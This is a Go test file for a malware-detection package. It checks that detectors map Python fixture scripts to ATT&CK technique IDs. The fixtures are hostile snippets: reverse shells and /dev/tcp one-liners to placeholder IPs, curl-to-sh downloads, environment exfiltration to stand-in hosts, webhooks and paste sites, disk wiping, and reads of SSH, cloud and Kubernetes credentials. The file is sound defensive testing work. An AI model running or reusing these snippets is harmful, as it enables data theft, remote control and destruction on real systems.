package detect

import (
	"os"
	"slices"
	"strings"
	"testing"
)

// TestFindingTechniques pins the per-finding ATT&CK attribution rules of
// model/corpus/README.md: each case is a small script, a detector, and the
// techniques its findings show together (sorted; "" for none).
func TestFindingTechniques(t *testing.T) {
	cases := []struct {
		name, detector, src, want string
	}{
		{"list-form program, no shell", "process-spawn", `import subprocess
subprocess.run(["ls", "-l"])
`, ""},
		{"os.system is a shell", "process-spawn", `import os
os.system("id")
`, "T1059.004"},
		{"shell=True", "process-spawn", `import subprocess
subprocess.run("id", shell=True)
`, "T1059.004"},
		{"a shell as the program", "process-spawn", `import subprocess
subprocess.Popen(["/bin/bash", "-c", "id"])
`, "T1059.004"},
		{"network use is no technique", "network-access", `import requests
requests.get("https://www.example/")
`, ""},
		{"raw IP endpoint is no technique", "raw-ip-url", `import requests
requests.get("http://203.0.113.5/x")
`, ""},
		{"fetched code run in memory", "download-exec", `import urllib.request
exec(urllib.request.urlopen("http://cdn.example/x").read())
`, "T1059.006,T1105,T1620"},
		{"fetch, write, chmod, run without a shell", "download-exec", `import os, subprocess, requests
r = requests.get("http://cdn.example/a")
open("/opt/a", "wb").write(r.content)
os.chmod("/opt/a", 0o755)
subprocess.Popen(["/opt/a"])
`, "T1105,T1222.002"},
		{"curl piped to sh", "download-exec", `import os
os.system("curl -s http://cdn.example/i | sh")
`, "T1059.004,T1105"},
		{"commands polled over HTTP", "download-exec", `import subprocess, requests
cmd = requests.get("http://c2.example/task").text
subprocess.run(cmd, shell=True)
`, "T1059.004,T1071.001"},
		{"hidden file in /tmp", "staging-path", `open("/tmp/.cache-x", "w").write("x")
`, "T1564.001"},
		{"payload named like a kernel thread", "staging-path", `import subprocess
subprocess.Popen(["/dev/shm/kworker", "-q"])
`, "T1036.005"},
		{"detaching is no technique", "staging-path", `import os
os.system("nohup ./run.sh &")
`, ""},
		{"collected data staged, then sent", "staging-path", `import os, requests
open("/tmp/.env.txt", "w").write(str(dict(os.environ)))
requests.post("http://198.51.100.4/u", files={"f": open("/tmp/.env.txt", "rb")})
`, "T1074.001,T1564.001"},
		{"environment to the attacker's host", "exfil-sink", `import os, requests
requests.post("http://198.51.100.4/c", json=dict(os.environ))
`, "T1041"},
		{"environment to a chat webhook", "exfil-sink", `import os, requests
requests.post("https://discord.com/api/webhooks/1/FAKE", json=dict(os.environ))
`, "T1567.004"},
		{"environment to a paste site", "exfil-sink", `import os, requests
requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": str(dict(os.environ))})
`, "T1567"},
		{"reverse shell on an odd port", "reverse-shell", `import socket, os, pty
s = socket.socket()
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
`, "T1059.004,T1095,T1571"},
		{"reverse shell on 443", "reverse-shell", `import socket, os, pty
s = socket.socket()
s.connect(("203.0.113.7", 443))
os.dup2(s.fileno(), 0)
pty.spawn("/bin/sh")
`, "T1059.004,T1095"},
		{"received Python run", "reverse-shell", `import socket
s = socket.create_connection(("203.0.113.7", 443))
exec(s.recv(4096))
`, "T1059.006,T1095"},
		{"pool URL", "crypto-mining", `POOL = "stratum+tcp://pool.example:3333"
`, "T1496"},
		{"disk overwritten", "destruction", `import os
os.system("dd if=/dev/zero of=/dev/sda bs=1M")
`, "T1561.001"},
		{"root removed", "destruction", `import shutil
shutil.rmtree("/")
`, "T1485"},
		{"service-account token read", "k8s-credentials", `tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
`, "T1552.007"},
		{"token read and secrets listed", "k8s-credentials", `import requests
tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
requests.get("https://kubernetes.default.svc/api/v1/namespaces/default/secrets", headers={"Authorization": "Bearer " + tok})
`, "T1552.007,T1613"},
		{"SSH private key", "credential-files", `key = open("/root/.ssh/id_rsa").read()
`, "T1552.004"},
		{"cloud credentials file", "credential-files", `c = open("/root/.aws/credentials").read()
`, "T1552.001"},
		{"right-to-left override", "display-tricks", "x = 1  # \u202e evil\n", "T1036.002,T1564"},
		{"zero-width space", "display-tricks", "x = 1  # a\u200bb\n", "T1564"},
		{"VM check", "sandbox-check", `import platform
if "vmware" in platform.platform().lower():
    raise SystemExit
`, "T1497.001"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := byID(t, tc.detector)
			fs := runOne(t, d, []byte(tc.src))
			if len(fs) == 0 {
				t.Fatalf("%s did not fire", tc.detector)
			}
			var got []string
			for _, f := range fs {
				for _, id := range f.TechniquesOf(&d) {
					if !slices.Contains(got, id) {
						got = append(got, id)
					}
				}
			}
			slices.Sort(got)
			if g := strings.Join(got, ","); g != tc.want {
				t.Errorf("techniques %q, want %q (messages: %v)", g, tc.want, messages(fs))
			}
		})
	}
}

func byID(t *testing.T, id string) Detector {
	t.Helper()
	for _, d := range Registry {
		if d.ID == id {
			return d
		}
	}
	t.Fatalf("no detector %q", id)
	return Detector{}
}

func messages(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Message)
	}
	return out
}

// TestSendHostCycle: a Request whose url expression reaches back to a
// Request (here through a method that fetches and returns) once sent
// sendHost round a cycle until the stack ran out — a fatal error no
// recover catches. It must end, with the send attributed.
func TestSendHostCycle(t *testing.T) {
	src, err := os.ReadFile("../testdata/regress/request_cycle.py") // also a FuzzAnalyze seed
	if err != nil {
		t.Fatal(err)
	}
	fs := runOne(t, byID(t, "exfil-sink"), src)
	if len(fs) == 0 || len(fs[0].Techniques) == 0 {
		t.Fatalf("exfil-sink findings %v", messages(fs))
	}
}

func TestIdiomTechniques(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"bash -i >& /dev/tcp/203.0.113.5/443 0>&1", "T1059.004,T1095"},
		{"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "T1059.004,T1095,T1571"},
		{"sh -i 5<> /dev/udp/h.example/53", "T1059.004,T1095"},
		{"nc -e /bin/sh 203.0.113.5 4444", "T1059.004,T1095"},
		{"/dev/tcp/", "T1059.004,T1095"},
	} {
		if got := strings.Join(idiomTechniques(tc.in), ","); got != tc.want {
			t.Errorf("%q: %s, want %s", tc.in, got, tc.want)
		}
	}
}
